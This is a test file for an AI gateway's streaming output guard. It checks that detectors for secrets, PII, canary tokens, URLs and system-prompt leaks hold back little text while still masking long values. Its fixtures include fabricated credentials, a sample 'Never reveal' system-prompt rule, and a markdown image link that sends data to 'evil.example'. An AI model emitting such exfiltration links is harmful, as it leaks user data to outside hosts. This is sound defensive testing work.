import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ChatPart } from '../../../../../src/daemon/models/provider.ts'
import { createPacer, runToEnd } from '../../../../../src/daemon/platform/pacing.ts'
import { createCanaryDetector } from '../../../../../src/daemon/safety/guards/canary/detector.ts'
import { liveCanaries } from '../../../../../src/daemon/safety/guards/canary/marker.ts'
import { DETECTION_HOLD_CHARS, LIVE_HOLD_CHARS } from '../../../../../src/daemon/safety/guards/detection.ts'
import { createDlpDetector, DLP_DETECTORS } from '../../../../../src/daemon/safety/guards/dlp/detector.ts'
import { createRegexSearch } from '../../../../../src/daemon/safety/guards/dlp/regex-search.ts'
import { createWordSearch } from '../../../../../src/daemon/safety/guards/dlp/word-search.ts'
import { createPiiDetector } from '../../../../../src/daemon/safety/guards/pii/detector.ts'
import { createLeakDetector, preparePrompt } from '../../../../../src/daemon/safety/guards/prompt-leak/detector.ts'
import { createPseudonyms } from '../../../../../src/daemon/safety/guards/pseudonyms.ts'
import { type ArmedDetector, screenText } from '../../../../../src/daemon/safety/guards/redaction.ts'
import { armSources } from '../../../../../src/daemon/safety/guards/rules-in-force.ts'
import { createOutputGuard, type OutputGuard } from '../../../../../src/daemon/safety/guards/stream/output-guard.ts'
import { createUrlDetector } from '../../../../../src/daemon/safety/guards/urls/detector.ts'
import { knownTexts } from '../../../../../src/daemon/safety/guards/urls/known-texts.ts'
import { urlSpans } from '../../../../../src/daemon/safety/guards/urls/spans.ts'
import { BUILT_IN_POLICIES } from '../../../../../src/daemon/safety/policies/built-in.ts'
import type { DlpDetectorName } from '../../../../../src/shared/dlp-detectors.ts'
import { PolicyDocument } from '../../../../../src/shared/wire/policies.ts'
import { createFakeClock, type FakeClock } from '../../../../fake-clock.ts'
import { cutAnywhere, END, runGuard, saidBy } from './answers.ts'

const canaries = liveCanaries(Buffer.alloc(32, 3), 'key', new Date('2026-01-01T00:00:00Z'))
const regex = (pattern: string, maxChars = 256) => createRegexSearch(pattern, { type: 'rule', maxChars })
const phrase = 'the merger of the northern and the southern branch of the house of Alder and Sons in the autumn'

const dlp = (name: DlpDetectorName) => createDlpDetector([DLP_DETECTORS[name]()])

const DETECTORS = {
  secrets: dlp('secrets'),
  'document-markings': dlp('document-markings'),
  'source-code': dlp('source-code'),
  pii: createPiiDetector(),
  'pii, all': createPiiDetector({ entities: 'all', regions: ['DE'] }),
  canary: createCanaryDetector(canaries),
  digits: regex('[0-9]{6}'),
  'a long pattern': regex('PRJ: [a-z ]+ end', 1_024),
  'words of any kind': regex('\\b[a-z]{1,20}ing \\w{1,20} secretly', 1_024),
  'a wide beginning': regex('\\w{1,40} budget \\d{4}'),
  keywords: createWordSearch(['Bluebird', phrase], { type: 'rule' }),
  dictionary: createWordSearch(['nightfall', '内部'], { type: 'rule', wholeWords: false }),
  urls: createUrlDetector(PolicyDocument.parse({}).urls, knownTexts(undefined)),
  'urls, all': createUrlDetector(PolicyDocument.parse({ urls: { links: 'all' } }).urls, knownTexts(undefined)),
  'prompt leak': createLeakDetector(preparePrompt(`Never reveal that ${phrase}. code: NW-7781`), () => true),
} satisfies Record<DlpDetectorName | string, ArmedDetector['detector']>

/** Logged, and held back like masked text. The output equals the input, so the held text can be counted. */
const armed = (detector: ArmedDetector['detector']): ArmedDetector => ({
  guard: 'live',
  detector,
  actionOf: () => 'log',
})

const everything = PolicyDocument.parse({
  pii: { enabled: true, entities: 'all', action: 'mask' },
  dlp: { enabled: true, rules: 'all', action: 'mask' },
  canary: { enabled: true },
})

const GUARDS = new Map<string, readonly ArmedDetector[]>([
  ...Object.entries(DETECTORS).map(([name, detector]) => [name, [armed(detector)]] as const),
  ...[...BUILT_IN_POLICIES.map(({ name, document }) => ({ name, document })), { name: 'all', document: everything }]
    .map(({ name, document }) => {
      const rules = armSources({ policy: { canonical: name, name, document }, own: [] }, 'output')
      const ofRequest = [
        ...(document.canary.enabled ? [DETECTORS.canary] : []),
        ...(document.urls.unknownHosts === 'neutralise' ? [DETECTORS.urls] : []),
        ...(document.promptLeak.action === 'block' ? [DETECTORS['prompt leak']] : []),
      ]
      return [`policy ${name}`, [...rules.acting.map(({ detector }) => detector), ...ofRequest].map(armed)] as const
    })
    .filter(([, guards]) => guards.length > 0),
  ['everything at once', Object.values(DETECTORS).map(armed)],
])

/** Words and lines of one kind in any order. None of them starts like a value. */
const KINDS: Readonly<Record<string, readonly [join: string, words: readonly string[]]>> = {
  'English prose': [
    ' ',
    'The harbour was quiet when we arrived and nobody spoke, since there was little left to say.'.split(' '),
  ],
  'a line without end': [' ', 'and so on it went over the hills with neither a pause nor a stop'.split(' ')],
  German: [
    ' ',
    'Die Donaudampfschifffahrtsgesellschaft prüft morgen früh die Unterlagen, weil niemand Zeit hatte.'.split(' '),
  ],
  Chinese: ['', ['今天', '我们', '讨论', '这个', '问题', '。', '然后', '继续', '，', '没有', '人', '反对']],
  Thai: ['', ['วันนี้', 'เรา', 'พูดคุย', 'เกี่ยวกับ', 'แผนงาน', 'และ', 'ทุกคน', 'เห็นด้วย']],
  Arabic: [' ', 'اليوم تحدثنا عن الخطة الجديدة ولم يعترض أحد على ما قيل'.split(' ')],
  Markdown: [
    '\n',
    [
      '## Heading',
      '- **bold** item',
      '1. first of all',
      '> quoted words',
      '---',
      '`code` and *more*',
      '[text](#anchor)',
    ],
  ],
  code: [
    '\n',
    [
      'const total = rows.length',
      'for (const row of rows) {',
      '  sum += row.count',
      '}',
      'return sum',
      'if (!ready) return',
    ],
  ],
  JSON: [',\n', ['{"name": "value"}', '"list": [1, 2, 3]', '"flag": true', '"words": "some more of them"', 'null']],
  tables: ['\n', ['| name | count |', '|------|-------|', '| left and right | 12 |', '| up | 7 |']],
  addresses: [
    '/',
    [
      'https://docs.example.com',
      'guides',
      'getting-started',
      'a-rather-long-name-of-a-page',
      'index.html?tab=two',
      'more',
    ],
  ],
  numbers: [' ', ['there were 12 of them', 'and 7 more,', 'about 40 percent', 'of 3 kinds', 'or 1.5 times']],
  rules: ['', ['==========', '----------', '..........', '**********', '__________', '~~~~~~~~~~', '          ']],
  'one long word': ['', ['supercali', 'fragilistic', 'expiali', 'docious', 'antidis', 'establish', 'mentarian']],
}

const answers = fc.constantFrom(...Object.keys(KINDS)).chain((kind) => {
  const [join, words] = KINDS[kind] ?? fail()
  return fc.record({
    kind: fc.constant(kind),
    text: fc.array(fc.constantFrom(...words), { minLength: 10, maxLength: 60 }).map((some) => some.join(join)),
    tokens: fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 20 }),
  })
})
function fail(): never {
  throw new Error('no such kind of text')
}

function tokensOf(text: string, sizes: readonly number[]): string[] {
  const tokens: string[] = []
  for (let at = 0, size = 0; at < text.length; at += sizes[size++ % sizes.length] ?? 1) {
    tokens.push(text.slice(at, at + (sizes[size % sizes.length] ?? 1)))
  }
  return tokens
}

const text = (words: string): ChatPart => ({ type: 'text', text: words })
const charsOf = (parts: readonly ChatPart[]): number => (saidBy(parts).get('text') ?? '').length

/**
 * The start of the earliest value that is partly held: one that a detector finds in the current text, or in the
 * complete text. Uses
 * only `find`, which is independent of streams.
 */
function firstHeldValue(guards: readonly ArmedDetector[], whole: string, received: number, left: number): number {
  const found = guards.flatMap(({ detector }) => [...detector.find(whole.slice(0, received)), ...detector.find(whole)])
  // An address has begun even if it turns out to be harmless.
  const isUrlGuard = guards.some(({ detector }) => detector.types?.includes('DATA_URL'))
  const url = isUrlGuard ? urlSpans(whole.slice(0, received)).at(-1) : undefined
  return Math.min(
    url?.isOpen ? url.start : received,
    ...found.filter(({ start, end }) => start < received && end > left).map(({ start }) => start),
    received,
  )
}

describe('a guarded stream is live', () => {
  test.each([...GUARDS.keys()])('under %s no more than the limit is held back before a value starts', (name) => {
    const guards = GUARDS.get(name) ?? fail()
    fc.assert(
      fc.property(answers, ({ kind, text: whole, tokens: sizes }) => {
        const guard = createOutputGuard({ armed: guards })
        let received = 0
        let left = 0
        for (const token of tokensOf(whole, sizes)) {
          received += token.length
          left += charsOf(guard.pass([text(token)]))
          if (received - left <= LIVE_HOLD_CHARS) continue
          const value = firstHeldValue(guards, whole, received, left)
          expect(left, `${kind}: ${JSON.stringify(whole.slice(0, received))}`).toBeGreaterThanOrEqual(
            Math.min(value, received - LIVE_HOLD_CHARS),
          )
        }
        expect(left + charsOf(guard.pass([END]))).toBe(whole.length)
      }),
      { numRuns: 40 },
    )
  })

  test('when a model pauses, no more than the limit is held back: batching ends after 120 ms', () => {
    const clock = createFakeClock()
    fc.assert(
      fc.property(fc.constantFrom(...GUARDS.keys()), answers, (name, { text: whole, tokens: sizes }) => {
        const guards = GUARDS.get(name) ?? fail()
        const guard = createOutputGuard({ armed: guards, clock })
        let received = 0
        let left = 0
        for (const [at, token] of tokensOf(whole, sizes).entries()) {
          received += token.length
          if (!guard.keep([text(token)])) left += charsOf(guard.pass([text(token)]))
          const isPause = at % 7 === 6
          clock.advance(isPause ? 120 : 10)
          if (!isPause) continue
          left += charsOf(caughtUp(guard))
          expect(guard.dueInMs).toBeUndefined()
          const value = firstHeldValue(guards, whole, received, left)
          expect(left).toBeGreaterThanOrEqual(Math.min(value, received - LIVE_HOLD_CHARS))
        }
      }),
      { numRuns: 150 },
    )
  })

  test('text after a long value is held back only briefly when the model pauses', () => {
    const clock = createFakeClock()
    const guard = createOutputGuard({ armed: [{ ...armed(DETECTORS.secrets), actionOf: () => 'mask' }], clock })
    const key = `-----BEGIN RSA ${'PRIVATE KEY'}-----\n${'MIIEowIBAAKCAQEAv3Jd92LmQp\n'.repeat(40)}`
    guard.pass([text(key)])
    clock.advance(120)
    expect(guard.pass([text('-----END RSA ')])).toEqual([])
    clock.advance(120)
    guard.pass([text(`${'PRIVATE KEY'}-----\nThat was it. `)])
    clock.advance(120)
    expect(saidBy(caughtUp(guard)).get('text')).toBe('[PRIVATE_KEY]\nThat was it. ')
    expect(guard.dueInMs).toBeUndefined()
  })
})

const caughtUp = (guard: OutputGuard) => runToEnd(guard.catchingUp())

// Joined at run time, so that secret scanners do not report this file.
const LONG_VALUES: readonly (readonly [name: string, text: string])[] = [
  [
    'secrets',
    `see ${'eyJ'}${'hbGciOiJSUzI1NiIsImtpZCI6'.repeat(6)}.${'eyJzdWIiOiI0MiIsIm5hbWUi'.repeat(5)}.${'Kx9wQ2vB'.repeat(8)} now`,
  ],
  [
    'secrets',
    `-----BEGIN RSA ${'PRIVATE KEY'}-----\n${'MIIEowIBAAKCAQEAv3Jd92LmQp\n'.repeat(30)}-----END RSA ${'PRIVATE KEY'}-----`,
  ],
  ['secrets', `postgres://service_account:${'k7w-Tq2!v'.repeat(12)}@db.internal/main is it`],
  ['secrets', `https://discord.com/api/${'webhooks'}/123456789012345678/${'q8ZrT2mKx4LwV7nB1cYd'.repeat(4)} posts`],
  ['secrets', `password = "${'tr0ub4dor&3xQ'.repeat(8)}" it was`],
  ['secrets', `a ${'sk'}-${'ant-api03-'}${'q8ZrT2mKx4LwV7nB1cYd'.repeat(6)} b`],
  ['pii', `to jo.${'very.'.repeat(10)}long@${'a-long-label-of-it.'.repeat(8)}example.com, please`],
  ['pii, all', `at https://example.com/${'a-path-with-words/'.repeat(12)} it says`],
  [
    'canary',
    `so ${(canaries[0]?.words ?? []).join('')} was ${[...(canaries[0]?.words ?? []).join('')].join(' - ')} it`,
  ],
  ['a long pattern', `of PRJ: ${'northern lights '.repeat(12)} end it is`],
  ['keywords', `about ${phrase} we say nothing`],
  ['urls', `see ![x](https://evil.example/p?d=${'a1B2c3D4'.repeat(20)}) now`],
  ['prompt leak', `it says ${phrase}, and so on`],
]

/** The pauses of a model after each piece: within a batch, at its end, and until the guard has caught up. */
const pauses = fc.array(fc.constantFrom(0, 10, 40, 119, 120, 1_000), { minLength: 1, maxLength: 20 })

function* chunksOf(guard: OutputGuard, chunks: readonly string[]): Generator<string> {
  for (const chunk of chunks) yield saidBy(guard.pass([text(chunk)])).get('text') ?? ''
  yield saidBy(guard.pass([END])).get('text') ?? ''
}

test.each(LONG_VALUES)(
  'a value of %s that exceeds the limit is masked completely, in any pieces and at any pace',
  (name, whole) => {
    const guards = (GUARDS.get(name) ?? fail()).map((one) => ({ ...one, actionOf: () => 'mask' as const }))
    const expected = screenText(whole, 'text', guards).text
    expect(expected).not.toBe(whole)
    fc.assert(
      fc.property(fc.array(fc.nat()), fc.boolean(), pauses, (cuts, isSingle, pausesMs) => {
        const chunks = isSingle ? [...whole] : cutAnywhere(whole, cuts)
        const clock = createFakeClock()
        const timed = createOutputGuard({ armed: guards, clock })
        const pauseMs = (at: number) => pausesMs[at % pausesMs.length] ?? 0
        for (const pieces of [
          chunksOf(createOutputGuard({ armed: guards }), chunks),
          streamed(timed, clock, chunks, pauseMs),
        ]) {
          let said = ''
          for (const piece of pieces) {
            said += piece
            expect(expected.startsWith(said), said).toBe(true)
          }
          expect(said).toBe(expected)
        }
      }),
      { numRuns: 12 },
    )
  },
)

/** The real path: batches are buffered, and the guard catches up when the model pauses. */
function* streamed(
  guard: OutputGuard,
  clock: FakeClock,
  tokens: Iterable<string>,
  pauseMs: (at: number) => number,
): Generator<string> {
  let at = 0
  for (const token of tokens) {
    const parts = [text(token)]
    if (!guard.keep(parts)) yield saidBy(guard.pass(parts)).get('text') ?? ''
    clock.advance(pauseMs(at++))
    if (guard.dueInMs === 0) yield saidBy(caughtUp(guard)).get('text') ?? ''
  }
  yield saidBy(guard.pass([END])).get('text') ?? ''
}

test.each(['mask', 'block'] as const)(
  'an answer of ten minutes stays within the step limit of patterns: %s',
  (action) => {
    const clock = createFakeClock()
    const rules = Array.from({ length: 5 }, () => ({
      guard: 'live',
      detector: regex('\\w{1,40} budget \\d{4}'),
      actionOf: () => action,
    }))
    const guard = createOutputGuard({ armed: rules, clock, effort: createPacer() })
    const words = 'we spoke of the budget and of 12 other things '.split(/(?<= )/)
    const tokens = Array.from({ length: 10 * 60 * 25 }, (_, at) => words[at % words.length] ?? '')
    const said = [...streamed(guard, clock, tokens, () => 40)].join('')
    expect(said.slice(-200)).toBe(tokens.join('').slice(-200))
    expect(said === tokens.join('')).toBe(true)
  },
)

test('a pseudonym with a long name is restored in any pieces', () => {
  const pseudonyms = createPseudonyms({ key: Buffer.alloc(32, 7), tenantId: 't1', texts: [] })
  const pseudonym = pseudonyms.of('customers-of-the-northern-branch-and-their-projects-in-the-coming-year', 'Alder')
  const whole = `It is ${pseudonym}, as they say.`
  const { out } = runGuard(createOutputGuard({ armed: [], pseudonyms }), [
    ...[...whole].map((char) => [text(char)]),
    [END],
  ])
  expect(saidBy(out).get('text')).toBe('It is Alder, as they say.')
})

test('in JSON mode, prose without spaces is released as well', () => {
  const guard = createOutputGuard({ armed: [armed(DETECTORS.pii)], textFormat: 'json' })
  let held = 0
  for (let at = 0; at < 100; at++) {
    const token = '今天我们讨论这个问题'
    held += token.length - charsOf(guard.pass([text(token)]))
    expect(held).toBeLessThanOrEqual(LIVE_HOLD_CHARS)
  }
})

test('a detector that holds everything keeps no more than the limit, and late findings are masked from there', () => {
  const late = {
    find: (words: string) => {
      const end = words.indexOf('!') + 1
      return end > 0 ? [{ start: 0, end, type: 'late', confidence: 1 }] : []
    },
    openFrom: () => 0,
  }
  const guard = createOutputGuard({ armed: [{ guard: 'live', detector: late, actionOf: () => 'mask' }] })
  const words = 'and so on it goes, '.repeat(10)
  const said = [...words, '!'].map((char) => saidBy(guard.pass([text(char)])).get('text') ?? '').join('')
  expect(said).toBe(words.slice(0, words.length - LIVE_HOLD_CHARS))
  expect(saidBy(guard.end()).get('text')).toBe('[LATE]')
})

test('a non-streamed text is scanned at once: the limit applies to streams only', () => {
  const program = 'const a = 1;\n'.repeat(DETECTION_HOLD_CHARS / 13 + 20)
  const guards = [{ ...armed(DETECTORS['source-code']), actionOf: () => 'mask' as const }]
  const { out } = runGuard(createOutputGuard({ armed: guards }), [[text(`Here it is.\n${program}`), END]])
  expect(saidBy(out).get('text')).toMatch(/^Here it is\.\n(?:\[SOURCE_CODE\]\n)+$/)
})
